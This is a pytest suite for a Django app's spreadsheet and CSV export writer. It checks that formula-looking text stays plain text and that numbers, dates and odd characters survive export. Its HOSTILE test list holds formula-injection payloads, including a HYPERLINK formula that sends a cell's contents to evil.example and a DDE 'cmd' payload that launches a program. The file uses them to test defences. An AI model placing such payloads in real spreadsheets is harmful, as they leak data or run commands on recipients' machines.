"""The export writer: text people typed stays text (never a formula, never marked), numbers and
dates stay what they are, and nothing a person can type makes an export fail."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import pytest
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from saidao.core.sheets import Sheet, cell_text, csv_bytes, csv_text, sheet_text, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B2,"点我")',
    "=1+1",
    "+86 139 0000 0001",
    "-5℃",
    "@SUM(A1:A2)",
    "#N/A",
    "'=1+1",
    "=cmd|' /C calc'!A0",
]


def _sheet(body: bytes, index: int = 0) -> Worksheet:
    ws = load_workbook(io.BytesIO(body)).worksheets[index]
    assert isinstance(ws, Worksheet)
    return ws


def test_formula_looking_text_is_a_plain_text_cell() -> None:
    """Formula-looking text, in the header as in rows, is read back as a text cell holding exactly
    those characters: no formula, no apostrophe, no quote prefix."""
    body = xlsx_bytes(Sheet("名册", ["=A1", "姓名"], [[v, "x"] for v in HOSTILE]))
    ws = _sheet(body)
    cells = [ws.cell(1, 1), *(ws.cell(r, 1) for r in range(2, len(HOSTILE) + 2))]
    assert [c.value for c in cells] == ["=A1", *HOSTILE]
    for c in cells:
        assert c.data_type == "s"
        assert not c.quotePrefix
    assert b"<f>" not in body and b"quotePrefix" not in body


def test_numbers_dates_and_booleans_keep_their_type() -> None:
    """Numbers stay numbers, dates stay dates, booleans stay booleans; empty cells stay empty."""
    day = datetime.date(2026, 5, 1)
    at = datetime.datetime(2026, 5, 1, 8, 30)
    ws = _sheet(
        xlsx_bytes(Sheet("t", ["a"], [[3, -2.5, Decimal("1.25"), day, at, True, None, ""]]))
    )
    row = [ws.cell(2, i) for i in range(1, 9)]
    assert [c.value for c in row[:3]] == [3, -2.5, 1.25]
    assert [c.data_type for c in row[:3]] == ["n", "n", "n"]
    assert (row[3].data_type, row[3].value) == ("d", datetime.datetime(2026, 5, 1))
    assert (row[4].data_type, row[4].value) == ("d", at)
    assert row[5].value is True
    assert row[6].value is None and row[7].value is None


def test_a_datetime_with_a_time_zone_is_written_as_local_time() -> None:
    """An aware datetime (openpyxl refuses those) is written as the local time it shows."""
    at = datetime.datetime(2026, 5, 1, 0, 30, tzinfo=datetime.UTC)
    ws = _sheet(xlsx_bytes(Sheet("t", ["a"], [[at]])))
    local = timezone.localtime(at).replace(tzinfo=None)
    assert local != at.replace(tzinfo=None)
    assert ws.cell(2, 1).value == local


def test_characters_an_xlsx_cannot_hold_are_dropped() -> None:
    """Control characters (openpyxl raises IllegalCharacterError), lone surrogates and U+FFFE
    (which would corrupt the file) are dropped; the rest of the text is kept."""
    body = xlsx_bytes(Sheet("t", ["a"], [["张\x00三\x07", "a\x1bb\ud800c\ufffe", "行1\r\n行2\t"]]))
    ws = _sheet(body)
    assert [ws.cell(2, i).value for i in range(1, 4)] == ["张三", "abc", "行1\n行2\t"]


def test_sheets_titles_widths_and_streamed_rows() -> None:
    """Several sheets, titles cut to what Excel allows, widths by column or for all, and rows
    from a generator."""
    body = xlsx_bytes(
        Sheet("一" * 40, ["a", "b", "c"], (["x", i] for i in range(3)), widths=(None, 48, 16)),
        Sheet("a/b:c?", ["a", "b"], [], widths=18),
    )
    first, second = _sheet(body, 0), _sheet(body, 1)
    assert first.title == "一" * 31 and second.title == "abc"
    assert first.max_row == 4
    assert first.column_dimensions["B"].width == 48
    assert first.column_dimensions["C"].width == 16
    assert second.column_dimensions["A"].width == 18
    assert second.column_dimensions["B"].width == 18


def test_csv_marks_formula_looking_text_and_reads_it_back() -> None:
    """A CSV has no text cells, so formula-looking text gets a leading apostrophe that
    ``csv_text`` removes; other text and numbers are written as they are."""
    body = csv_bytes(["姓名", "=x"], [[*HOSTILE, "普通", -5, "'abc"]])
    assert body.startswith(b"\xef\xbb\xbf")
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert header == ["姓名", "'=x"]
    assert [f for f in row[: len(HOSTILE)] if not f.startswith("'")] == ["#N/A"]
    assert row[len(HOSTILE) :] == ["普通", "-5", "''abc"]
    assert [csv_text(f) for f in row] == [*HOSTILE, "普通", "-5", "'abc"]


def test_csv_text_keeps_an_apostrophe_someone_typed() -> None:
    """A hand-made CSV's "'abc" is not one of the writer's marks and is read as it is."""
    assert csv_text("'abc") == "'abc"
    assert csv_text("'") == "'"
    assert csv_text("abc") == "abc"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=4))
def test_any_text_survives_a_round_trip(values: list[str]) -> None:
    """Whatever is written reads back as the text an .xlsx can hold, exactly; the same text
    without control characters reads back unchanged, and a CSV field always does."""
    ws = load_workbook(io.BytesIO(xlsx_bytes(Sheet("t", ["h"], [values]))), read_only=True)
    read: list[Any] = list(next(ws.worksheets[0].iter_rows(min_row=2, values_only=True)))
    read += [None] * (len(values) - len(read))
    assert [v or "" for v in read] == [sheet_text(v) for v in values]
    assert [cell_text(v) for v in read] == [sheet_text(v).strip() for v in values]

    rows = list(csv.reader(io.StringIO(csv_bytes(["h"], [values]).decode("utf-8-sig"), newline="")))
    assert [csv_text(f) for f in rows[1]] == values


@pytest.mark.parametrize("text", ["-5℃", "+86 139…", "=1+1", "@foo", "行1\n行2"])
def test_sheet_text_keeps_what_a_person_types(text: str) -> None:
    """Text without control characters is written unchanged."""
    assert sheet_text(text) == text
